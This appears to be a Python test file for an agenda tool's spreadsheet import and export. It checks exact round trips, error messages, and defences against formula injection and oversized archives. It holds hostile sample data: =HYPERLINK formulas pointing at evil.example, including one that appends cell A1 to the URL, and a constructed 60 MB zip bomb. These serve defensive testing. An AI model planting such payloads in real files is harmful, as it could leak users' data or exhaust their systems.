"""CSV and XLSX: the documented columns cover every field, round trips are exact, cells are safe to open."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import replace
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from runofshow.agenda.model import Category, Event, Speaker
from runofshow.agenda.document import block_to_dict, event_to_dict
from runofshow.exporters.spreadsheet import to_csv, to_csv_bytes, to_xlsx
from runofshow.importers import ImportProblem, load_agenda, parse_agenda
from runofshow.importers.spreadsheet import (
    BLOCK_COLUMNS,
    COLUMNS,
    EVENT_COLUMNS,
    FORMULA_TRIGGERS,
    neutralised,
    parse_csv,
    parse_xlsx,
    unneutralised,
)
from runofshow.agenda.reference import REFERENCE_AGENDA
from tests.test_formats_native import everything_set

ROOT = Path(__file__).resolve().parent.parent
DATA = Path(__file__).resolve().parent / "data" / "formats"
HOSTILE = ("=HYPERLINK(\"http://evil.example\",\"click\")", "+1+1", "-2", "@SUM(A1)", "\tTab", "\rCR", "'=quoted")


def hostile_event(reference: Event) -> Event:
    """The reference with formula-like text in every kind of text cell."""
    first = reference.stages[0].blocks[0]
    block = replace(first, title=HOSTILE[0], description=HOSTILE[1], notes=HOSTILE[2], category_label=HOSTILE[3],
                    stream_source=HOSTILE[4], speakers=(Speaker(HOSTILE[5]),), facilitators=(HOSTILE[6],))
    return replace(reference, title="=1+1", venue="-venue",
                   stages=(replace(reference.stages[0], blocks=(block, *reference.stages[0].blocks[1:])),))


def test_the_columns_cover_every_field_and_are_documented() -> None:
    block_keys = set(block_to_dict(load_agenda(REFERENCE_AGENDA).all_blocks()[0]))
    assert block_keys <= set(BLOCK_COLUMNS)
    assert {"event_" + key for key in ("title", "venue", "timezone", "days", "rooms")} == set(EVENT_COLUMNS)
    documented = set(re.findall(r"^\| `([a-z_]+)` \|", (ROOT / "docs" / "formats.md").read_text(encoding="utf-8"),
                                flags=re.MULTILINE))
    assert set(COLUMNS) <= documented


def test_reference_survives_xlsx_unchanged(reference: Event) -> None:
    assert event_to_dict(parse_xlsx(to_xlsx(reference), path="r.xlsx")) == event_to_dict(reference)


def test_reference_survives_csv_unchanged(reference: Event) -> None:
    assert event_to_dict(parse_csv(to_csv(reference), path="r.csv")) == event_to_dict(reference)


def test_every_field_and_override_survives_both(reference: Event) -> None:
    rich = everything_set(reference)
    assert event_to_dict(parse_xlsx(to_xlsx(rich), path="r.xlsx")) == event_to_dict(rich)
    assert event_to_dict(parse_csv(to_csv(rich), path="r.csv")) == event_to_dict(rich)


def test_csv_export_is_utf8_with_bom_and_one_row_per_block(reference: Event) -> None:
    # The reference's zone is assumed (its file names none), so the export does not claim it (issue 16).
    assumed = dict(zip(*list(csv.reader(io.StringIO(to_csv(reference), newline="")))[:2]))
    assert reference.timezone_assumed and assumed["event_timezone"] == ""
    data = to_csv_bytes(replace(reference, timezone_assumed=False))
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == list(COLUMNS) and len(rows) == 15
    first = dict(zip(rows[0], rows[1]))
    assert first["title"] == "Fylkeskommunenes samling" and first["duration_minutes"] == "120"
    assert first["start"] == "2024-05-06T09:00:00+02:00" and first["event_timezone"] == "Europe/Oslo"
    assert first["rooms"] == '["plenary"]' and first["stream"] == "on_request"
    assert dict(zip(rows[0], rows[2]))["event_title"] == ""  # the event's fields sit on the first row only


def test_csv_cells_are_neutralised(reference: Event) -> None:
    rows = list(csv.reader(io.StringIO(to_csv(hostile_event(reference)), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    first = dict(zip(rows[0], rows[1]))
    assert first["title"] == "'" + HOSTILE[0] and first["notes"] == "'-2" and first["event_title"] == "'=1+1"


def test_xlsx_cells_are_text_and_neutralised(reference: Event) -> None:
    sheet = load_workbook(io.BytesIO(to_xlsx(hostile_event(reference)))).active
    header = [cell.value for cell in sheet[1]]
    first = {name: cell for name, cell in zip(header, sheet[2])}
    assert first["title"].value == "'" + HOSTILE[0] and first["title"].data_type == "s"
    assert first["description"].value == "'+1+1" and first["category_label"].value == "'@SUM(A1)"
    assert first["duration_minutes"].value == 120 and first["duration_minutes"].data_type == "n"
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []


def test_neutralised_cells_come_back_exactly(reference: Event) -> None:
    hostile = hostile_event(reference)
    assert event_to_dict(parse_xlsx(to_xlsx(hostile), path="h.xlsx")) == event_to_dict(hostile)
    assert event_to_dict(parse_csv(to_csv(hostile), path="h.csv")) == event_to_dict(hostile)


@given(st.text(max_size=30))
def test_neutralising_is_safe_and_reversible(text: str) -> None:
    assert not neutralised(text).startswith(FORMULA_TRIGGERS)
    assert unneutralised(neutralised(text)) == text


def test_hand_made_semicolon_csv_imports_formulas_as_text() -> None:
    event = load_agenda(DATA / "semicolon.csv")
    assert event.title == "semicolon" and event.timezone == "Europe/Oslo"
    welcome, injected, lunch = event.stages[0].blocks
    assert welcome.speakers == (Speaker("Ola Nordmann"), Speaker("Kari Nordmann"))
    assert welcome.rooms == ("hall",) and [room.id for room in event.rooms] == ["hall"]
    assert welcome.category is Category.TALK and welcome.planned_duration == timedelta(minutes=15)
    assert injected.title == '=HYPERLINK("http://evil.example/?x="&A1;"click")'  # kept as text, never evaluated
    assert injected.notes == "@SUM(1+1)\nsecond line"
    assert lunch.planned_start.isoformat() == "2024-10-01T12:00:00+02:00"  # a clock time on the day above
    assert lunch.planned_duration == timedelta(hours=1) and lunch.category is Category.MEAL


def test_formula_cells_in_a_workbook_are_read_as_text(tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Title", "Start", "Duration minutes", "Notes"])
    sheet.append(['=HYPERLINK("http://evil.example","x")', datetime(2024, 10, 1, 9, 0), 30, "=1+1"])
    sheet.append(["Two", "2024-10-01T09:30:00+02:00", "0:45", None])
    path = tmp_path / "formula.xlsx"
    workbook.save(path)
    event = load_agenda(path)
    first, second = event.stages[0].blocks
    assert first.title == '=HYPERLINK("http://evil.example","x")' and first.notes == "=1+1"
    assert first.planned_start.isoformat() == "2024-10-01T09:00:00+02:00"  # a local date-time cell
    assert second.planned_duration == timedelta(minutes=45)


def test_zip_bomb_workbook_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (60 * 1024 * 1024))
    assert path.stat().st_size < 200_000
    with pytest.raises(ImportProblem, match="refused: the workbook unpacks to 60 MB"):
        load_agenda(path)


def test_damaged_workbook_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "damaged.xlsx"
    path.write_bytes(b"PK\x03\x04" + b"not really a zip" * 10)
    with pytest.raises(ImportProblem, match="not a readable XLSX workbook"):
        load_agenda(path)


@pytest.mark.parametrize("rows, line, field, words", [
    ("title,start,duration_minutes\nA,2024-10-01 09:00,soon\n", 2, "duration_minutes", "'soon' is not a number"),
    ("title,start,duration_minutes\nA,noon,5\n", 2, "start", "'noon' is neither a date and time"),
    ("title,start,duration_minutes,speakers\nA,2024-10-01 09:00,5,\"[{\"\"name\"\": }]\"\n", 2, "speakers",
     "not valid JSON"),
    ("title,start,duration_minutes,breakout\nA,2024-10-01 09:00,5,[1]\n", 2, "breakout", "expected a JSON object"),
    ("title,start,duration_minutes,notes,stream\nA,2024-10-01 09:00,5,\"two\nlines\",\nB,2024-10-01 09:10,5,,loud\n",
     4, "stream", "'loud' is not one of live, off"),
    ("title,start,duration_minutes\nA,2024-10-01 09:00,30\nB,2024-10-01 09:15,30\n", 3, None, "overlapping 'A'"),
    ("title,start\nA,2024-10-01 09:00\n", 2, "duration_minutes", "empty, and no end either"),
    ("title,start,end,duration_minutes\nA,2024-10-01 09:00,10:00,30\n", 2, "end", "60 minutes after the start"),
    ("name,when\nA,09:00\n", 1, "title", "the header has no title or start column"),
])
def test_csv_faults_name_line_and_column(tmp_path: Path, rows: str, line: int, field: str | None, words: str) -> None:
    path = tmp_path / "bad.csv"
    path.write_text(rows, encoding="utf-8")
    with pytest.raises(ImportProblem) as caught:
        parse_agenda(path.read_bytes(), path=str(path), format="csv")
    assert (caught.value.line, caught.value.field) == (line, field)
    assert words in caught.value.problem


def test_xlsx_faults_name_the_cell(reference: Event, tmp_path: Path) -> None:
    workbook = load_workbook(io.BytesIO(to_xlsx(reference)))
    sheet = workbook.active
    column = COLUMNS.index("speakers") + 1
    sheet.cell(row=4, column=column).value = "[{broken"
    path = tmp_path / "bad.xlsx"
    workbook.save(path)
    with pytest.raises(ImportProblem) as caught:
        load_agenda(path)
    assert caught.value.line == 4 and caught.value.field == "P4 (speakers)"
    assert "not valid JSON" in caught.value.problem


def test_conflicting_event_values_are_refused(reference: Event) -> None:
    rows = list(csv.reader(io.StringIO(to_csv(replace(reference, timezone_assumed=False)), newline="")))
    rows[3][COLUMNS.index("event_timezone")] = "Europe/Berlin"
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    with pytest.raises(ImportProblem) as caught:
        parse_csv(buffer.getvalue(), path="c.csv")
    assert caught.value.field == "event_timezone" and "differs from line 2" in caught.value.problem


def test_broken_encoding_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "latin1.csv"
    path.write_bytes("title,start,duration_minutes\nMøte,2024-10-01 09:00,5\n".encode("latin-1"))
    with pytest.raises(ImportProblem) as caught:
        load_agenda(path)
    assert caught.value.line == 2 and "not UTF-8" in caught.value.problem


def test_utf16_csv_from_excel_imports(tmp_path: Path) -> None:
    path = tmp_path / "utf16.csv"
    path.write_bytes("title\tstart\tduration_minutes\r\nMøte\t2024-10-01 09:00\t5\r\n".encode("utf-16"))
    assert load_agenda(path).stages[0].blocks[0].title == "Møte"
